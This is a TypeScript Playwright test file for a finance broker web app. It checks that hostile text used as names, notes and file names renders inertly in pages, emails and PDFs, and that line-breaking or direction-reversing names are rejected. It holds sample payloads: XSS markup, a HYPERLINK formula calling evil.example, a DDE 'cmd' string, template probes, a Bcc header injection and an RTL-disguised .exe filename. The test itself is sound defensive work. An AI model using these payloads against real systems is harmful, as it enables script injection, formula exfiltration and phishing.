import type { Page } from "playwright";
import { describe, expect, it } from "vitest";
import { businesses } from "../../infra/local/business-register/businesses.ts";
import type { Message } from "../../infra/local/mail/message.ts";
import { pdfDeeds, pdfText } from "../support/pdf.ts";
import { referralOf } from "../support/referrals.ts";
import { aSignature, dataUrl } from "../support/signatures.ts";
import { fetched, files } from "../support/uploads.ts";
import { withBrowser } from "./support/browser.ts";
import { aCustomerOf, privacyPageMailedTo, uploadPageMailedTo } from "./support/customers.ts";
import { letterTo } from "./support/mailbox.ts";
import { type Account, aBroker, clientOf } from "./support/people.ts";
import { aConsumerQuote } from "./support/quotes.ts";
import { theSite } from "./support/site.ts";

const browser = withBrowser();
const signature = dataUrl(aSignature());
const company = businesses[0]!;

const hostileTexts = [
  ["markup", `"><img src=https://evil.example/a onerror=alert(1)><svg onload=alert(2)>`],
  ["a script", "</title></textarea></script><script>alert(1)</script>"],
  ["a formula", `=HYPERLINK("https://evil.example/?a="&A1,"Pay here")`],
  ["a command and templates", `@SUM(1+1)*cmd|' /C calc'!A0 {{7*7}} \${7*7} javascript:alert(1)`],
] as const;

/** A page that notes each dialog; what is asked elsewhere or against the page's rules fails the test in any case. */
async function opened(path: string, token?: string): Promise<{ readonly page: Page; readonly dialogs: readonly string[] }> {
  // The store of files has an address of its own.
  const expectedErrors = /^asked elsewhere: http:\/\/(localhost|127\.0\.0\.1):/;
  const page = await browser.open(path, { expectedErrors, ...(token !== undefined && { token }) });
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    if (dialog.type() !== "beforeunload") dialogs.push(dialog.message());
    void dialog.accept();
  });
  return { page, dialogs };
}

const made = "[onerror], [onload], [src*=evil], [href*=evil], [href^='javascript:'], script:not([src]), iframe, object, embed";

/** What a text has become that was taken for markup. */
const grown = (page: Page) =>
  page.locator(made).evaluateAll((all) => all.map((one) => (one as unknown as { outerHTML: string }).outerHTML));

/** A broker who calls everything by this text that may be called so, and a customer of the same name. */
async function called(text: string) {
  const broker = await aBroker({ hasOrganisation: false });
  const { api } = broker;
  await api.createOrganisation({ body: { name: text, status: "active" } });
  const businessDetails = { EntityName: text, Abn: company.abn };
  await api.saveBusinessDetails({ body: { businessDetails, businessAddress: { description: text } } });
  const asked = await aCustomerOf(broker, "commercial");
  const { applicationId, customerId } = asked;
  const entity = await api.createEntity({ body: { applicationId, abrData: { Abn: company.abn } } });
  await api.updateEntity({ body: { entityId: entity._id, entityName: text } });
  await api.updateCustomer({ body: { customerId, firstName: text, lastName: text } });
  await api.addNote({ body: { applicationId, text } });
  return { broker, asked };
}

/** The broker's consumer quote with it. */
async function anIncomeCalled(description: string, { api }: Account): Promise<string> {
  const { _id, customers } = await api.startQuote({ params: { type: "consumer" } });
  await api.addIncome({ body: { customerId: customers[0]!._id, item: { description, amount: 1000 } } });
  return _id;
}

const without = (letter: string | undefined) => (letter ?? "").replaceAll("\u2060", "");

/** A letter says the text as it is, in both its parts, and nothing in it leads anywhere but to the product. */
async function expectLetter(page: Page, letter: Message, text: string): Promise<void> {
  await page.setContent(letter.html ?? "");
  const links = await page.locator("a").evaluateAll((all) => all.map((link) => (link as unknown as { href: string }).href));

  expect([letter.to.length, letter.cc, letter.bcc, letter.replyTo]).toEqual([1, [], [], []]);
  expect(letter.subject).toMatch(/^[A-Z][a-z ]+$/);
  expect(without(letter.text)).toContain(text);
  expect(letter.text).not.toMatch(/\/\/evil|evil\.example/);
  expect(without(await page.locator("body").innerText())).toContain(text);
  expect(links.map((link) => new URL(link).origin)).toEqual([theSite()]);
  expect(await grown(page)).toEqual([]);
}

/** The PDF behind a document's address. */
async function expectPdf(url: string | null, text: string): Promise<void> {
  const { content, disposition } = await fetched(url);

  expect(disposition).toMatch(/^attachment; /);
  expect(pdfDeeds(content)).toEqual([]);
  expect(pdfText(content)).toContain(text.replaceAll(/\s/g, ""));
}

describe.each(hostileTexts)("%s in the place of a name", (_kind, text) => {
  it("is that text on every page, and does nothing", async () => {
    const { broker, asked } = await called(text);
    await broker.api.sendUploadLink({ body: { customerId: asked.customerId } });
    await broker.api.sendPrivacyLink({ body: { customerId: asked.customerId } });
    const fileName = `${text.replaceAll("/", "")}.pdf`;

    const { page: upload, dialogs } = await opened(await uploadPageMailedTo(asked));
    await upload.getByText(`For your quote with ${text}.`).waitFor();
    const identity = upload.getByRole("region", { name: "Identity", exact: true });
    const file = { name: fileName, mimeType: "application/pdf", buffer: files.pdf };
    await identity.locator("input[type=file][multiple]").setInputFiles(file);
    await upload.getByText("1 of 3 done").waitFor();
    await identity.getByText(fileName, { exact: true }).waitFor();
    const { page: privacy, dialogs: ofPrivacy } = await opened(await privacyPageMailedTo(asked));
    await privacy.getByText(`${text} asks for your consent`).waitFor();
    const { page, dialogs: ofBroker } = await opened("/customers", broker.token);
    await page.getByRole("cell", { name: text, exact: true }).first().waitFor();
    const found = [await grown(upload), await grown(privacy), await grown(page)];
    await page.goto(`${theSite()}/account/organisation`);
    await page.getByRole("heading", { name: text, exact: true }).waitFor();
    found.push(await grown(page));
    await page.goto(`${theSite()}/quote/${asked.applicationId}`);
    await page.getByText(text, { exact: true }).first().waitFor();
    await page.getByRole("button", { name: "Documents and links" }).click();
    await page.getByRole("dialog", { name: "Documents" }).getByText(fileName, { exact: true }).waitFor();
    found.push(await grown(page));
    await page.goto(`${theSite()}/quote/${await anIncomeCalled(text, broker)}`);
    await page.getByRole("button", { name: /^Income/ }).click();
    await page.getByRole("group", { name: text, exact: true }).waitFor();
    found.push(await grown(page));

    expect(found.flat()).toEqual([]);
    expect([...dialogs, ...ofPrivacy, ...ofBroker]).toEqual([]);
    const { notes, documents } = await broker.api.readApplication({ params: { id: asked.applicationId } });
    expect([notes.map((note) => note.text), documents.map((document) => document.fileName)]).toEqual([[text], [fileName]]);
    const { disposition } = await fetched((await broker.api.readDocument({ params: { id: documents[0]!._id } })).url);
    expect(disposition).toMatch(/^attachment; filename="[^"\\]*"; filename\*=UTF-8''[\w%.!~*-]+$/);
  });

  it("is that text in letters, whose links all lead to the product, and in signed papers, which have none", async () => {
    const { broker, asked } = await called(text);
    const { api, user, email } = broker;
    const { page, dialogs } = await opened("/login");
    await page.goto("about:blank");

    await api.sendPrivacyLink({ body: { customerId: asked.customerId } });
    const privacy = await letterTo(asked.email, "/privacy?");
    await expectLetter(page, privacy, text);
    const { customerId, applicationId } = asked;
    const linkSecret = (await privacyPageMailedTo(asked)).split("#")[1]!;
    const body = { customerId, applicationId, applicationType: "commercial" as const, buffer: signature };
    await clientOf().signPrivacy({ body }, { linkSecret });
    const { documents } = await api.readApplication({ params: { id: applicationId } });
    await expectPdf((await api.readDocument({ params: { id: documents[0]!._id } })).url, `Signed by ${text} ${text}`);

    const agreement = await api.signReferralAgreement({ body: { userId: user._id, buffer: signature } });
    await expectPdf((await api.readDocument({ params: { id: agreement._id } })).url, `On behalf of ${text}, ABN`);
    const referred = await refer(broker, text);
    await expectLetter(page, await letterTo("referrals@kelpie.example", referred), text);
    await expectLetter(page, await letterTo(email, "/referrals"), text);

    expect(dialogs).toEqual([]);
  });
});

/** The application that is referred for a customer of this name. */
async function refer(broker: Account, text: string): Promise<string> {
  const { _id, customers } = await aConsumerQuote(broker);
  await broker.api.sendReferral({ body: { ...(await referralOf(broker, _id, customers[0]!._id)), firstName: text, lastName: text } });
  return _id;
}

const statusOf = (one: PromiseSettledResult<unknown>) => (one.status === "rejected" ? (one.reason as { status: number }).status : 200);

describe("a text that breaks its line or turns its direction", () => {
  const breaking = ["Kim\r\nBcc: all@evil.example", "Kim\nLee", "Kim\u0000", "Kim\u001b[31m", "invoice\u202Efdp.exe", "Kim\u2066Lee"];

  it("is refused as a name of anybody, of a business or of a file, and one that only turns it as a note", async () => {
    const broker = await aBroker();
    const { customerId, applicationId } = await aCustomerOf(broker);
    const { api } = broker;
    const file = { kind: "identity", contentType: "application/pdf", size: 100, customerId } as const;
    const organisationId = (await api.readUser()).organisation!._id;

    const answersTo = async (text: string) => {
      const calls = [
        api.updateCustomer({ body: { customerId, firstName: text } }),
        api.updateCustomer({ body: { customerId, lastName: text } }),
        api.uploadDocument({ body: { ...file, fileName: text } }),
        api.updateOrganisation({ body: { organisationId, name: text } }),
        api.addIncome({ body: { customerId, item: { description: text, amount: 1 } } }),
        api.saveSupplier({ body: { applicationId, name: text } }),
        api.inviteUsers({ body: [{ firstName: text, email: "kim@example.com" }] }),
        ...(/[\r\n]/.test(text) ? [] : [api.addNote({ body: { applicationId, text } })]),
      ];
      return [...new Set((await Promise.allSettled(calls)).map(statusOf))];
    };

    for (const text of breaking) expect([text, await answersTo(text)]).toEqual([text, [400]]);
    expect(await answersTo("Kim")).toEqual([200]);
  });

  it("is refused as the name of whoever registers, as are all that are no letters", async () => {
    const texts = [...breaking, ...hostileTexts.map(([, text]) => text)];
    const person = { email: "kim@example.com", password: "Quote2day!", phoneNumber: "0412345678", lastName: "Lee" };

    const calls = texts.map((firstName) => clientOf().register({ body: { ...person, firstName } }));

    const outcomes = await Promise.allSettled(calls);
    expect(outcomes.map((one) => (one.status === "rejected" ? (one.reason as { field: string }).field : "taken"))).toEqual(
      texts.map(() => "firstName"),
    );
  });
});
